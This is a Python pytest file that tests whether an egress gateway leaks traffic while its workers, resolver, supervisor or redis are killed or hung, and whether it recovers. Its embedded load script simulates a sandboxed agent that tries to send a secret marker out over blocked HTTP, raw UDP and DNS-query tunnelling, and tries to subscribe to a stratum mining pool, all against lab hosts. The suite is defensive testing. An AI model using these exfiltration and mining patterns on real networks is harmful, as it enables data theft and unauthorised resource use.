"""Faults: each gateway component killed (or hung) while an agent in the sandbox keeps trying, judged on the
internet side: nothing may leak meanwhile (no payload byte to a destination the policy does not allow, no marker
the client sends anywhere: nothing forwarded uninspected). One lab per fault (a fault breaks it).

Recovery by itself (issue 10): after each fault the supervisor notices (a dead or hung worker, a resolver that
stopped answering), keeps the lockdown while it restarts the component, and applies the policy table again; each
row reports ``recovered in N s`` (from the fault to the first allowed page and answer after it), and the test
asserts that it recovered, never how fast. The supervisor itself is not restarted by itself (that is systemd's,
docs/gateway.md): killed, its workers die with it, traffic stops (the guard table), and a new ``gateway run`` in
the same lab starts and serves. The drop logger is a thread of the supervisor: here it dies with the supervisor and
hangs with it (SIGSTOP); killed alone (a fault hook), in test_faults_threads.py, with the recorder's thread. The
resolver runs in the supervisor's event loop: its hang is injected by the test-only fault hook
(``EGRESS_FAULT_HOOKS=1``, then SIGUSR1: it stops answering).
"""

from __future__ import annotations

import json
import os
import pathlib
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable

import pytest

from egress.gateway.components import FAULT_HOOKS_ENV
from egress.lab.topology import server
from tests.security.capture import Crossed
from tests.security.harness import Attacker, SecurityLab, open_lab, report_fault
from tests.waiting import eventually, scaled

pytestmark = pytest.mark.security

MARKER = "egress-fault-secret-7f3a"
ALLOWED = {(server("allowed").v4, 80), (server("allowed").v4, 443), (server("ws").v4, 80)}
NAMESERVER = (server("ns").v4, 53)
ITERATIONS_AFTER = 4
"""Loop iterations the client must complete after the fault before the capture is judged."""

LOAD_PRELUDE = r"""
import json, socket, sys, time
def dns(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1); s.sendto(q, ("10.203.1.1", 53)); r = s.recv(512)
    return "rcode%d" % (r[3] & 15)
def tcp(host, port, data, want):
    with socket.create_connection((host, port), timeout=1) as s:
        s.settimeout(1); s.sendall(data); got = s.recv(4096)
    return "ok" if want in got else "answer:%r" % got[:20]
def iteration(n, tries):
    start = time.time(); out = {}
    for name, try_ in tries.items():
        try:
            out[name] = try_()
        except Exception as e:
            out[name] = type(e).__name__
    print(json.dumps({"n": n, "start": start, "end": time.time(), **out}), flush=True)
GET = b"GET / HTTP/1.1\r\nHost: allowed.lab\r\nConnection: close\r\n\r\n"
"""
"""The fault loads' common part (a sandbox script's head): a DNS query to the gateway's resolver, a TCP exchange,
and one iteration of tries printed as a JSON line (``n``, ``start``, ``end`` and each try's outcome)."""

LOAD = (
    LOAD_PRELUDE
    + r"""
marker = sys.argv[1]
def udp(host, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(data, (host, port))
    return "sent"
SUBSCRIBE = ('{"id":1,"method":"mining.subscribe","params":["%s"]}\n' % marker).encode()
BLOCKED = ("GET /%s HTTP/1.1\r\nHost: blocked.lab\r\n\r\n" % marker).encode()
tries = {
    "dns_allowed": lambda: dns("allowed.lab"),
    "http_allowed": lambda: tcp("198.18.10.1", 80, GET, b"200 OK"),
    "stratum": lambda: tcp("198.18.10.3", 3333, SUBSCRIBE, b"result"),
    "blocked_http": lambda: tcp("198.18.10.2", 80, BLOCKED, b"200 OK"),
    "udp_out": lambda: udp("198.18.10.2", 5353, marker.encode()),
    "dns_exfil": lambda: dns(marker + ".t.lab"),
}
for n in range(100000):
    iteration(n, tries)
"""
)


def _iterations(load: Attacker) -> list[dict[str, object]]:
    return [json.loads(line) for line in load.log().splitlines() if line.startswith("{")]


def _after(load: Attacker, moment: float, count: int) -> list[dict[str, object]]:
    def enough() -> list[dict[str, object]]:
        later = [it for it in _iterations(load) if float(str(it["start"])) > moment]
        assert len(later) >= count, f"{len(later)} iterations after the fault: {load.log()[-800:]}"
        return later

    return eventually(enough, timeout=60, interval=0.2)


def leaked_bytes(crossed: Crossed) -> int:
    """Payload bytes to anything but the allowed services and the resolver's upstream."""
    return sum(
        len(data)
        for (proto, dst, port), data in crossed.payload.items()
        if (dst, port) not in ALLOWED and not (proto in ("udp", "tcp") and (dst, port) == NAMESERVER)
    )


def _pids(lab: SecurityLab, needle: str) -> list[int]:
    """Processes in the lab's gateway namespace whose command line has ``needle`` (other labs share the pid space)."""
    done = subprocess.run(["ip", "netns", "pids", lab.lab.gateway_ns], capture_output=True, text=True, check=False)
    found = []
    for pid in map(int, done.stdout.split()):
        try:
            cmdline = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if needle in cmdline:
            found.append(pid)
    return found


def _recovered_at(load: Attacker, since: float, alive: Callable[[], bool]) -> float:
    """When the client was served again for good: the start of the first iteration after the last one since
    ``since`` that failed to get its allowed page or DNS answer (waiting until the component runs again and the
    last two iterations were served: the supervisor restarts with backoff)."""

    def back() -> float:
        assert alive(), "the component does not run again yet"
        later = [it for it in _iterations(load) if float(str(it["start"])) > since]
        served = [it["http_allowed"] == "ok" and it["dns_allowed"] == "rcode0" for it in later]
        assert len(served) >= 2 and served[-1] and served[-2], f"not served again yet: {load.log()[-600:]}"
        last_failed = max((n for n, good in enumerate(served) if not good), default=-1)
        return float(str(later[last_failed + 1]["start"]))

    return eventually(back, timeout=scaled(120), interval=0.3)


def _served(lab: SecurityLab, load: Attacker) -> None:
    """Wait until the load got an allowed page (before any fault); else fail with the gateway's log."""

    def first() -> bool:
        log = (lab.logs / "gateway.log").read_text(errors="replace")
        assert any(it["http_allowed"] == "ok" for it in _iterations(load)), f"{load.log()[-400:]}\n{log[-3000:]}"
        return True

    eventually(first, timeout=scaled(60), interval=0.2)


def _supervisor_said(lab: SecurityLab) -> str:
    """The gateway's own account of recoveries (its log's ``recovered in`` lines)."""
    log = (lab.logs / "gateway.log").read_text(errors="replace") if (lab.logs / "gateway.log").exists() else ""
    said = re.findall(r"(\S+(?: \d+| logger)?) recovered in ([\d.]+ s)", log)
    return ", ".join(f"{what} {took}" for what, took in said) or "no recovery logged"


def _recovery(load: Attacker, alive: bool) -> tuple[str, str]:
    """What came back by itself: the client's next `ITERATIONS_AFTER` iterations (from now) and whether the
    component runs again. ``yes``: every one got its allowed page and the component runs; ``partly``: some did."""
    later = _after(load, time.time(), ITERATIONS_AFTER)[:ITERATIONS_AFTER]
    ok = sum(it["http_allowed"] == "ok" for it in later)
    how = f"allowed page {ok}/{len(later)} after; component {'running' if alive else 'not running'}"
    if ok == len(later) and alive:
        return "yes", how
    return ("partly" if ok else "no"), how


def _play(
    component: str,
    inject: Callable[[SecurityLab], str],
    alive: Callable[[SecurityLab], bool],
    resume: Callable[[SecurityLab], None] | None = None,
    must_recover: bool = True,
) -> None:
    """Under load, inject the fault; wait for the recovery; judge the capture; report the row; assert no leak and
    that the gateway recovered by itself."""
    with open_lab() as lab:
        with lab.capture(f"fault-{component.split(maxsplit=1)[0]}") as capture:
            load = lab.attacker("load", [sys.executable, "-c", LOAD, MARKER], where="sandbox")
            _served(lab, load)
            fault_at = time.time()
            what = inject(lab)
            _after(load, time.time(), ITERATIONS_AFTER)  # the agent keeps trying through the fault
            if resume is not None:
                resume(lab)
            took = "not the gateway's to restart"
            if must_recover:
                try:
                    took = f"recovered in {_recovered_at(load, fault_at, lambda: alive(lab)) - fault_at:.0f} s"
                except AssertionError as exc:
                    took = f"not recovered: {str(exc).splitlines()[0][:120]}"
            recovered, how = _recovery(load, alive(lab))
            load.stop()
        crossed = capture.result
        assert crossed is not None
        leaked = leaked_bytes(crossed)
        marker = crossed.contains(MARKER.encode())
        survived = int(leaked == 0 and not marker)
        said = _supervisor_said(lab)
        report_fault(component, 1, survived, leaked, recovered, f"{what}; {took} (supervisor: {said}); {how}")
        assert leaked == 0, crossed.table()
        assert not marker, crossed.table()
        assert recovered == "yes" or not must_recover, f"{took}; {how}"


def _state(pid: int) -> str:
    """The process state letter from /proc (``T``: stopped)."""
    try:
        return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return "?"


def _gateway_alive(lab: SecurityLab) -> bool:
    return lab.run.gateway is not None and lab.run.gateway.poll() is None


def _workers_alive(lab: SecurityLab) -> bool:
    return _gateway_alive(lab) and len(_pids(lab, "egress.gateway.worker")) == lab.run.workers


def _alive(pid: int) -> bool:
    """``pid`` exists and is not a zombie (a dead child not yet reaped)."""
    return _state(pid) not in ("?", "Z")


def _worker(lab: SecurityLab, index: int) -> int:
    [pid] = _pids(lab, f"worker-{index}.json")
    return pid


@pytest.mark.parametrize("index", [0, 1])
def test_a_proxy_worker_killed_under_load_leaks_nothing_and_recovers(index: int) -> None:
    killed: list[int] = []

    def inject(lab: SecurityLab) -> str:
        killed.append(_worker(lab, index))
        os.kill(killed[0], signal.SIGKILL)
        return f"SIGKILL worker {index}"

    def replaced(lab: SecurityLab) -> bool:
        return _workers_alive(lab) and killed[0] not in _pids(lab, "egress.gateway.worker")

    _play(f"proxy worker {index} (SIGKILL)", inject, replaced)


def test_a_proxy_worker_hung_under_load_leaks_nothing_and_recovers() -> None:
    stopped: list[int] = []

    def inject(lab: SecurityLab) -> str:
        stopped.append(_worker(lab, 0))
        os.kill(stopped[0], signal.SIGSTOP)
        return "SIGSTOP worker 0 (never resumed: the supervisor must notice)"

    def serving(lab: SecurityLab) -> bool:  # a stopped process still exists: ask whether it runs
        pids = _pids(lab, "egress.gateway.worker")
        return _workers_alive(lab) and stopped[0] not in pids and all(_state(pid) != "T" for pid in pids)

    _play("proxy worker (SIGSTOP)", inject, serving)


def test_the_resolver_hung_under_load_leaks_nothing_and_recovers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(FAULT_HOOKS_ENV, "1")  # the gateway of this lab takes SIGUSR1 as "the resolver hangs"

    def inject(lab: SecurityLab) -> str:
        assert lab.run.gateway is not None
        os.kill(lab.run.gateway.pid, signal.SIGUSR1)
        return "resolver stops answering (test-only fault hook)"

    _play("resolver (hung)", inject, _gateway_alive)


def test_the_supervisor_hung_under_load_leaks_nothing_and_resumes() -> None:
    def inject(lab: SecurityLab) -> str:
        assert lab.run.gateway is not None
        os.kill(lab.run.gateway.pid, signal.SIGSTOP)
        return "SIGSTOP supervisor (resolver, drop logger hang; the guard closes), SIGCONT after the load ran on"

    def resume(lab: SecurityLab) -> None:
        assert lab.run.gateway is not None
        os.kill(lab.run.gateway.pid, signal.SIGCONT)

    _play("supervisor (SIGSTOP)", inject, _gateway_alive, resume)


def _guard_closed(lab: SecurityLab) -> bool:
    """Whether the guard table is there and its ``alive`` set empty (the kernel forwards nothing)."""
    done = lab.gateway(["nft", "list", "set", "inet", "egress_guard", "alive"])
    assert done.returncode == 0, f"no guard table: {done.stderr.strip()}"
    return "elements" not in done.stdout


@pytest.mark.parametrize("signum", [signal.SIGKILL, signal.SIGTERM], ids=["SIGKILL", "SIGTERM"])
def test_the_supervisor_stopped_under_load_leaves_no_worker_and_a_new_run_serves(signum: signal.Signals) -> None:
    """Its workers die with it (by pid), traffic stops (the guard closes), and a new ``gateway run`` starts in the
    same lab (no EADDRINUSE) and serves."""
    name = signal.Signals(signum).name
    with open_lab() as lab:
        with lab.capture(f"fault-supervisor-{name}") as capture:
            load = lab.attacker("load", [sys.executable, "-c", LOAD, MARKER], where="sandbox")
            _served(lab, load)
            workers = _pids(lab, "egress.gateway.worker")
            assert len(workers) == lab.run.workers
            gateway = lab.run.gateway
            assert gateway is not None
            stopped_at = time.time()
            gateway.send_signal(signum)
            gateway.wait(timeout=scaled(30))
            orphans = eventually(lambda: not [pid for pid in workers if _alive(pid)], timeout=scaled(20), interval=0.1)
            gone_in = time.time() - stopped_at
            assert orphans, [pid for pid in workers if _alive(pid)]
            assert eventually(lambda: _guard_closed(lab), timeout=scaled(20), interval=0.2)
            later = _after(load, time.time(), 2)
            passed = [it for it in later if it["http_allowed"] == "ok" or it["dns_allowed"] == "rcode0"]
            restarted_at = time.time()
            lab.run.start_gateway()  # what systemd's restart does (issue 11): same lab, same ports, same state
            back = _recovered_at(load, restarted_at, lambda: _workers_alive(lab))
            load.stop()
        crossed = capture.result
        assert crossed is not None
        leaked = leaked_bytes(crossed)
        marker = crossed.contains(MARKER.encode())
        note = (
            f"{name} supervisor: {len(workers)} workers gone in {gone_in:.1f} s, guard closed, "
            f"{len(passed)} iterations served while down; new gateway run served in {back - restarted_at:.0f} s"
        )
        report_fault(f"supervisor ({name})", 1, int(leaked == 0 and not marker), leaked, "yes (new run)", note)
        assert leaked == 0, crossed.table()
        assert not marker, crossed.table()
        assert not passed, later
        if signum == signal.SIGTERM:
            assert gateway.returncode == 0, "a clean stop exits 0"


def test_redis_killed_under_load_leaks_nothing() -> None:
    def inject(lab: SecurityLab) -> str:
        [pid] = _pids(lab, "redis-server")
        os.kill(pid, signal.SIGKILL)
        return "SIGKILL redis-server (not restarted: records spool to disk)"

    # Redis is not the gateway's to restart (the records spool meanwhile): the row says whether it runs again.
    _play("redis (SIGKILL)", inject, lambda lab: bool(_pids(lab, "redis-server")), must_recover=False)
